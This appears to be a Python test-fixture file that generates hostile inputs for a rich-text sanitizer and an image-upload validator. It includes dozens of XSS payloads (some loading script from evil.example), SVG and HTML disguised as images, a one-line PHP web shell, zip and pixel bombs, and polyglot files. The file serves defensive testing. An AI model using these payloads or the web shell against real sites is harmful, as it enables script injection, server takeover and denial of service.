# ruff: noqa: E501 - one attack a line is easier to read
"""Words and files that people make to break things: what an editor or a reader might paste, or choose."""

import io
import struct
import zipfile
import zlib

from PIL import Image

from tests.files.papers import BAD, PDF, bomb_of_dots, picture, word

CALL = "alert(1)"
HANDLERS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter",
    "onbeforeinput", "onwheel", "onscrollend", "onhashchange",
)  # fmt: skip
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "&#106;avascript:",
    "javascript&colon;", "vbscript:", "data:text/html,", "data:image/svg+xml,", "livescript:", "file:///",
)  # fmt: skip
FRAMES = ("iframe", "object", "embed", "frame", "applet", "base", "link", "meta", "form", "portal", "template", "math")
WHOLE = [
    f"<script>{CALL}</script>", f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>{CALL}", f"<scr<script>ipt>{CALL}</script>",
    f"<<script>{CALL}//<</script>", f"</title><script>{CALL}</script>", f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>", f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>", f"<math><mi//xlink:href='data:x,<script>{CALL}</script>'>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>", f"<textarea></textarea><img src=x onerror={CALL}>",
    f"<style>@import 'javascript:{CALL}';</style>", "<style>*{background:url(https://evil.example/)}</style>",
    f"<p style='background:url(javascript:{CALL})'>x</p>", "<p style='position:fixed;inset:0'>x</p>",
    f"<xmp><p title='</xmp><img src=x onerror={CALL}>'>", f"<!--><img src=x onerror={CALL}>-->", f"<!-- --!><script>{CALL}</script>",
    f"<![CDATA[><script>{CALL}</script>]]>", f"<?xml version='1.0'?><script>{CALL}</script>", f"<listing>&lt;img onerror={CALL}&gt;",
    f"{{{{ {CALL} }}}}", f"{{% include 'x' %}}<b>{CALL}", f"${{{CALL}}}", f"<%= {CALL} %>", f"#{{{CALL}}}",
    f"<table background='javascript:{CALL}'>", f"<input autofocus onfocus={CALL}>", f"<select><style></select><script>{CALL}</script>",
    f"<details open ontoggle={CALL}>", f"<video><source onerror={CALL}></video>", f"<audio src=x onerror={CALL}>",
    f"<marquee onstart={CALL}>x</marquee>", f"<button form=x formaction=javascript:{CALL}>x</button>",
    f"<isindex action=javascript:{CALL} type=image>", f"<bgsound src=javascript:{CALL}>", f"<layer src=javascript:{CALL}>",
    f"<img src='x' srcset='x' sizes='x' onerror={CALL}//", f"<img src=`x` onerror={CALL}>", f"<img/src/onerror={CALL}>",
    f"\"><script>{CALL}</script>", f"'><img src=x onerror={CALL}>", f"</textarea><script>{CALL}</script>",
    f"</script><script>{CALL}</script>", f"</style><svg onload={CALL}>", f"\u2028<script>{CALL}</script>",
    f"\ufeff<script>{CALL}</script>", f"\u202e<script>{CALL}</script>\u202c", f"＜script＞{CALL}＜/script＞",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-", f"%3Cscript%3E{CALL}%3C/script%3E", f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;", "<a href='//evil.example' target=_blank>x</a>", "<" * 500 + "script>",
    "<b>" * 300 + "x", "<a " + "x=1 " * 500 + f"onclick={CALL}>x</a>", f"<p dir=rtl lang=x onclick={CALL}>x</p>",
    f"[x](javascript:{CALL})", f"![x](javascript:{CALL})", f"[x]: javascript:{CALL}", f"<javascript:{CALL}>", f"<https://x.example/'onclick={CALL}>",
]  # fmt: skip


def words() -> list[str]:
    """Hostile rich texts, each once."""
    found = [*WHOLE]
    found += [f"<img src=x {handler}={CALL}>" for handler in HANDLERS]
    found += [f"<a href='{scheme}{CALL}'>x</a>" for scheme in SCHEMES]
    found += [f"<p {handler}='{CALL}' style=x>x</p>" for handler in HANDLERS]
    found += [f"<{frame} src='javascript:{CALL}' href='javascript:{CALL}'>x</{frame}>" for frame in FRAMES]
    return list(dict.fromkeys(found))


SVG = "<svg xmlns='http://www.w3.org/2000/svg' {}><script>{}</script></svg>"


def _png_with(kind: bytes, body: bytes) -> bytes:
    """A PNG with one chunk more before its end."""
    made = picture("PNG")
    chunk = struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    return made[:-12] + chunk + made[-12:]


def _wide(form, size) -> bytes:
    out = io.BytesIO()
    Image.new("1", size).save(out, form)
    return out.getvalue()


def _many_frames() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("P", (400, 400), number % 200) for number in range(60)]
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:])
    return out.getvalue()


def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("x", bytes(20_000_000))
    return out.getvalue()


# No picture at all, or none that can be opened: refused by name.
REFUSED = {
    **{f"photo-{name}": body for name, body in BAD.items() if name not in ("photo.php", "photo.jpg.exe", "lie.pdf")},
    "drawing.svg": SVG.format("onload='alert(1)'", CALL).encode(), "drawing.png": SVG.format("", CALL).encode(),
    "drawing.jpg": ("<?xml version='1.0'?>" + SVG.format("", CALL)).encode(), "drawing.svgz": zlib.compress(SVG.encode()),
    "drawing.webp": ("\ufeff" + SVG.format("", CALL)).encode(), "utf16.svg": SVG.format("", CALL).encode("utf-16"),
    "page.jpg": f"<html><script>{CALL}</script>".encode(), "page.png": f"<!doctype html><script>{CALL}</script>".encode(),
    "script.jpg": b"#!/bin/sh\nid", "program.png": b"MZ" + bytes(300), "elf.jpg": b"\x7fELF" + bytes(300),
    "class.png": b"\xca\xfe\xba\xbe" + bytes(100), "macro.jpg": word(**{"word/vbaProject.bin": b"x"}), "zip.png": _zip_bomb(),
    "pdf.jpg": PDF, "pdf.webp": PDF, "film.jpg": b"\x00\x00\x00\x18ftypmp42" + bytes(60), "gif.jpg": picture("GIF"),
    "bmp.png": picture("BMP"), "tiff.jpg": picture("TIFF"), "ico.png": picture("ICO"), "bomb.jpg": bomb_of_dots(20_000),
    "bomb2.png": bomb_of_dots(65_000), "wide.png": _wide("PNG", (60_000, 1_000)), "cut.webp": picture("WEBP")[:60],
    "cut2.jpg": picture()[:200], "empty.jpg": b"", "text.jpg": b"hello there", "nul.png": bytes(200),
    "head.png": b"\x89PNG\r\n\x1a\n" + b"x" * 400, "head.jpg": b"\xff\xd8\xff\xe0" + b"x" * 400, "riff.webp": b"RIFF\x10\x00\x00\x00WEBPVP8 ",
    "heic.heic": b"\x00\x00\x00\x18ftypheic" + bytes(80), "eps.jpg": b"%!PS-Adobe-3.0 EPSF-3.0\n", "psd.png": b"8BPS" + bytes(60),
    "rtf.jpg": b"{\\rtf1 \\object}", "php.jpg": b"<?php system($_GET[0]); ?>", "mp3.jpg": b"ID3\x03" + bytes(90), "ogg.png": b"OggS" + bytes(90),
    "rar.jpg": b"Rar!\x1a\x07", "7z.jpg": b"7z\xbc\xaf\x27\x1c", "gz.jpg": zlib.compress(b"x"), "font.png": b"wOFF" + bytes(60),
}  # fmt: skip
# Pictures that carry something else along: taken, and only their dots are kept.
CLEANED = {
    "polyglot.jpg": picture() + f"<script>{CALL}</script>".encode(), "polyglot.png": picture("PNG") + _zip_bomb(),
    "phar.jpg": picture() + b"<?php __HALT_COMPILER(); ?>", "note.png": _png_with(b"tEXt", f"Comment\0<script>{CALL}</script>".encode()),
    "xmp.png": _png_with(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta>Kodiak Fenwick</x:xmpmeta>"),
    "frames.webp": _many_frames(), "double.jpg": picture() + picture("PNG"), "pdf-after.jpg": picture() + PDF,
    "comment.jpg": picture(comment=f"<script>{CALL}</script>".encode()),
}  # fmt: skip
